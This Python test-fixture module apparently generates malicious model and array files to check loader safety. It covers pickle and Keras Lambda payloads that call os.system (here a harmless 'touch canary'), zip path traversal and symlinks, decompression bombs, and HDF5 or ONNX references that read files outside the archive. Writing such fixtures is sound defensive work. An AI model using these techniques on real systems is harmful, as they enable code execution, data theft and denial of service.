"""Model files and arrays that try to run code, to read a file outside, or to take all memory: each made from a harmless one."""

from __future__ import annotations

import base64
import io
import json
import marshal
import os
import pickle
import shutil
import stat
import struct
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import numpy as np

Edit = Callable[[dict[str, Any]], None]
WEIGHTS = "model.weights.h5"
_SECOND = "contents"  # of write_file(filename, contents)


class Trap:
    """What a file wants: to write `canary`, or to have `secret` read."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        folder.mkdir()
        self.canary = folder / "canary"
        self.secret = folder / "secret.bin"
        self.words = "hunter2-is-the-password"
        self.numbers = np.full(4096, 31415.926, np.float32)
        self.secret.write_bytes(self.numbers.tobytes())
        self.text = folder / "secret.txt"
        self.text.write_text(f"{self.words}\n{self.words}\n")

    @property
    def command(self) -> str:
        return f"touch {self.canary}"


# --- .keras archives ---


def members(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def write_archive(path: Path, files: dict[str, bytes], **options: Any) -> Path:
    with zipfile.ZipFile(path, "w", **options) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return path


def edited(source: Path, path: Path, edit: Edit) -> Path:
    """`source` with another config.json."""
    files = members(source)
    config = json.loads(files["config.json"])
    edit(config)
    return write_archive(path, {**files, "config.json": json.dumps(config).encode()})


def with_weights(source: Path, path: Path, change: Callable[[h5py.File], None]) -> Path:
    """`source` with other weights in it."""
    files = members(source)
    stream = io.BytesIO(files[WEIGHTS])
    with h5py.File(stream, "r+") as file:
        change(file)
    return write_archive(path, {**files, WEIGHTS: stream.getvalue()})


def edited_h5(source: Path, path: Path, edit: Edit) -> Path:
    """The .h5 `source` with another model_config."""
    shutil.copy(source, path)
    with h5py.File(path, "r+") as file:
        config = json.loads(file.attrs["model_config"])
        edit(config)
        file.attrs["model_config"] = json.dumps(config)
    return path


# --- what a config names ---


def layer(config: dict[str, Any], class_name: str) -> dict[str, Any]:
    """The first layer of a class."""
    return next(one for one in config["config"]["layers"] if one["class_name"] == class_name)


def nodes(config: dict[str, Any], *args: Any, **kwargs: Any) -> list[Any]:
    """The call of a layer on constants, as tf_keras or Keras 3 writes it."""
    if "keras_version" in config or any("args" in node for one in config["config"]["layers"] for node in one["inbound_nodes"] if node):
        return [{"args": list(args), "kwargs": kwargs}]
    first, *rest = args or ("x",)
    return [[["_CONSTANT_VALUE", -1, first, {**kwargs, **{f"{_SECOND}": value for value in rest[:1]}}]]]


def as_layer(module: str, function: str, *args: Any) -> Edit:
    """A function in the place of a layer, called with these arguments while the model is loaded."""

    def edit(config: dict[str, Any]) -> None:
        call = {"class_name": "function", "module": module, "config": function, "registered_name": function, "name": "evil"}
        config["config"]["layers"].insert(1, {**call, "inbound_nodes": nodes(config, *args)})

    return edit


def setting(class_name: str, key: str, value: Any) -> Edit:
    """Another value of a layer's setting."""

    def edit(config: dict[str, Any]) -> None:
        layer(config, class_name)["config"][key] = value

    return edit


def named(kind: str, **keys: Any) -> Edit:
    """Other keys of a layer's own entry, such as its module."""
    return lambda config: layer(config, kind).update(keys)


def of_model(**keys: Any) -> Edit:
    """Other keys of the model's own entry."""
    return lambda config: config.update(keys)


def added(class_name: str, module: str | None, settings: dict[str, Any], *args: Any, kwargs: dict[str, Any] | None = None) -> Edit:
    """A layer of Keras's own beside the others, called with these arguments."""

    def edit(config: dict[str, Any]) -> None:
        entry = {"class_name": class_name, "config": {"name": "evil", **settings}, "name": "evil", "inbound_nodes": []}
        if module is not None:
            entry |= {"module": module, "registered_name": None}
        if args or kwargs:
            entry["inbound_nodes"] = nodes(config, *args, **(kwargs or {}))
        config["config"]["layers"].insert(1, entry)

    return edit


def lambda_code(command: str) -> str:
    """Byte code as Keras writes it, of `lambda x: os.system(command) or x`."""
    code = compile(f"lambda x: __import__('os').system({command!r}) or x", "<lambda>", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(code)).decode()


def lambda_layer(trap: Trap, kind: str) -> Edit:
    """A Lambda layer, as the .keras format (`__lambda__`) or the older ones (`lambda`) write its byte code."""
    code = lambda_code(trap.command)
    function: Any = [code, None, None]
    if kind == "__lambda__":
        function = {"class_name": "__lambda__", "config": {"value": [code, None, None]}}

    def edit(config: dict[str, Any]) -> None:
        relu = layer(config, "ReLU")
        relu.update(class_name="Lambda")
        relu["config"] = {"name": relu["config"]["name"], "function": function, "function_type": "lambda", "arguments": {}}

    return edit


# --- zip files ---


def traversal(source: Path, path: Path, name: str) -> Path:
    return write_archive(path, {**members(source), name: b"written outside"})


def symlink(source: Path, path: Path, target: Path) -> Path:
    """Weights that are a link to another file."""
    files = members(source)
    del files[WEIGHTS]
    write_archive(path, files)
    entry = zipfile.ZipInfo(WEIGHTS)
    entry.create_system, entry.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(entry, str(target))
    return path


def zip_bomb(source: Path, path: Path, member: str) -> Path:
    """256 MB of zeros as a member."""
    files = members(source)
    files.pop(member, None)
    write_archive(path, files)
    with (
        zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open(member, "w", force_zip64=True) as stream,
    ):
        zeros = bytes(1 << 24)
        for _ in range(16):
            stream.write(zeros)
    return path


def lying_zip(source: Path, path: Path) -> Path:
    """A central directory that declares 4 GB for every member."""
    data = bytearray(source.read_bytes())
    at = 0
    while (at := data.find(b"PK\x01\x02", at)) >= 0:
        data[at + 20 : at + 28] = struct.pack("<II", 0xFFFFFFF0, 0xFFFFFFF0)
        at += 4
    path.write_bytes(data)
    return path


def encrypted(source: Path, path: Path) -> Path:
    """Every member marked as encrypted."""
    data = bytearray(source.read_bytes())
    for mark, flags in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        at = 0
        while (at := data.find(mark, at)) >= 0:
            data[at + flags] |= 1
            at += 4
    path.write_bytes(data)
    return path


# --- HDF5 ---


def first_dataset(file: h5py.File, rank: int = 4) -> str:
    found: list[str] = []
    file.visititems(lambda name, one: found.append(name) if isinstance(one, h5py.Dataset) and one.ndim == rank else None)
    return found[0]


def h5_external_storage(trap: Trap) -> Callable[[h5py.File], None]:
    """Weights whose bytes are those of another file."""

    def change(file: h5py.File) -> None:
        name = first_dataset(file)
        shape = file[name].shape
        del file[name]
        file.create_dataset(name, shape, "float32", external=[(str(trap.secret), 0, int(np.prod(shape)) * 4)])

    return change


def h5_external_link(trap: Trap) -> Callable[[h5py.File], None]:
    """Weights that are a link into another HDF5 file."""

    def change(file: h5py.File) -> None:
        name = first_dataset(file)
        shape = file[name].shape
        del file[name]
        with h5py.File(trap.folder / "secret.h5", "w") as other:
            other["weights"] = np.resize(trap.numbers, shape)
        file[name] = h5py.ExternalLink(str(trap.folder / "secret.h5"), "/weights")

    return change


def h5_virtual(trap: Trap) -> Callable[[h5py.File], None]:
    """Weights that are a view of another HDF5 file."""

    def change(file: h5py.File) -> None:
        name = first_dataset(file)
        shape = file[name].shape
        del file[name]
        with h5py.File(trap.folder / "virtual.h5", "w") as other:
            other["weights"] = np.resize(trap.numbers, shape)
        layout = h5py.VirtualLayout(shape, "float32")
        layout[...] = h5py.VirtualSource(str(trap.folder / "virtual.h5"), "weights", shape)
        file.create_virtual_dataset(name, layout)

    return change


def h5_bomb(file: h5py.File) -> None:
    """64 GB of zeros that are stored nowhere."""
    name = first_dataset(file)
    del file[name]
    file.create_dataset(name, (1 << 17, 1 << 17), "float32", chunks=(1 << 10, 1 << 10))


# --- ONNX ---


def external_data(source: Path, path: Path, location: str) -> Path:
    """A graph whose first large float constant lies in another file, wherever that is."""
    import onnx

    model = onnx.load(source)
    names = [one.name for one in model.graph.initializer if one.data_type == onnx.TensorProto.FLOAT]
    sizes = {one.name: int(np.prod(one.dims or [1])) for one in model.graph.initializer}
    tensor = next(one for one in model.graph.initializer if one.name == max(names, key=lambda name: sizes[name]))
    tensor.ClearField("raw_data")
    tensor.ClearField("float_data")
    tensor.data_location = onnx.TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", str(sizes[tensor.name] * 4))):
        entry = tensor.external_data.add()
        entry.key, entry.value = key, value
    path.write_bytes(model.SerializeToString())
    return path


# --- arrays ---


class Runs:
    """An object that runs a command where it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return os.system, (self.command,)


def pickled(path: Path, trap: Trap) -> Path:
    """An .npy or .npz with a pickled object in it; or, with another name, the pickle alone."""
    array = np.array([Runs(trap.command)], dtype=object)
    if path.suffix == ".npz":
        np.savez(path, image=array)
    else:
        np.save(path, array)
    return path


def bare_pickle(path: Path, trap: Trap) -> Path:
    path.write_bytes(pickle.dumps(Runs(trap.command)))
    return path


def npy_bomb(path: Path) -> Path:
    """An array that declares 4 TB."""
    header = b"{'descr': '<f4', 'fortran_order': False, 'shape': (1048576, 1048576), }"
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    path.write_bytes(b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header)
    return path


def npz_bomb(path: Path) -> Path:
    """An array of 320 MB of zeros, 2 MB packed."""
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(header, {"descr": "<f4", "fortran_order": False, "shape": (80 << 10, 1 << 10)})
    with (
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open("image.npy", "w", force_zip64=True) as one,
    ):
        one.write(header.getvalue())
        zeros = bytes(1 << 24)
        for _ in range(20):
            one.write(zeros)
    return path


def png_bomb(path: Path) -> Path:
    """A picture of 14,000 x 14,000 pixels, all of one colour."""
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    packer = zlib.compressobj(9)
    data = b"".join([packer.compress(bytes(14_001)) for _ in range(14_000)]) + packer.flush()
    size = struct.pack(">IIBBBBB", 14_000, 14_000, 8, 0, 0, 0, 0)
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", size) + chunk(b"IDAT", data) + chunk(b"IEND", b""))
    return path


# --- more archives and folders ---


def twice(source: Path, path: Path) -> Path:
    """Two config.json, of which readers may take one or the other."""
    shutil.copy(source, path)
    with warnings.catch_warnings(), zipfile.ZipFile(path, "a") as archive:
        warnings.simplefilter("ignore")  # that the name is there already
        archive.writestr("config.json", "{}")
    return path


def deep(source: Path, path: Path) -> Path:
    return write_archive(path, {**members(source), "config.json": b"[" * 100_000 + b"]" * 100_000})


def saved_operation(folder: Path, operation: str) -> None:
    """A node beside the others in the graph of a SavedModel."""
    from tensorflow.core.protobuf import saved_model_pb2

    path = folder / "saved_model.pb"
    saved = saved_model_pb2.SavedModel.FromString(path.read_bytes())
    node = saved.meta_graphs[0].graph_def.library.function[0].node_def.add()
    node.name, node.op = "evil", operation
    path.write_bytes(saved.SerializeToString())


def saved_model_that_writes(folder: Path, trap: Trap) -> None:
    """A model with a resource whose initializer writes a file, which loading runs."""
    import tensorflow as tf
    import tf_keras

    class Resource(tf.saved_model.experimental.TrackableResource):
        def _create_resource(self) -> Any:
            return tf.raw_ops.VarHandleOp(dtype=tf.float32, shape=[])

        def _initialize(self) -> None:
            tf.io.write_file(str(trap.canary), "written")

    image = tf_keras.Input((12, 12, 1))
    model = tf_keras.Model(image, tf_keras.layers.Conv2D(4, 3)(image))
    model.resource = Resource()
    shutil.rmtree(folder)
    model.save(folder, save_format="tf")


def saved_metadata(folder: Path, edit: Edit) -> None:
    """The entries of keras_metadata.pb changed as those of a config."""
    from tf_keras.protobuf import saved_metadata_pb2

    path = folder / "keras_metadata.pb"
    saved = saved_metadata_pb2.SavedMetadata.FromString(path.read_bytes())
    for node in saved.nodes:
        metadata = json.loads(node.metadata)
        if metadata.get("class_name") == "Functional":
            edit(metadata)
            node.metadata = json.dumps(metadata)
    path.write_bytes(saved.SerializeToString())


def linked(path: Path, trap: Trap) -> None:
    path.unlink()
    path.symlink_to(trap.secret)


def pointed_elsewhere(run: Path, trap: Trap) -> None:
    """A run whose files name the secret wherever they name a file."""
    changes = {
        "metrics.json": {"exported": str(trap.text), "files": [str(trap.text)]},
        "manifest.json": {"working_directory": str(trap.folder), "recipe_folder": str(trap.folder)},
    }
    for name, values in changes.items():
        path = run / name
        path.write_text(json.dumps({**json.loads(path.read_text()), **values}))
    recipe = run / "recipe.yaml"
    recipe.write_text(recipe.read_text().replace("float.keras", "secret.txt").replace("data.py", "secret.txt"))
    for name in ("placement.json", "model.onnx", "quantized.keras", "qat.keras"):
        (run / name).unlink()
        (run / name).symlink_to(trap.text)
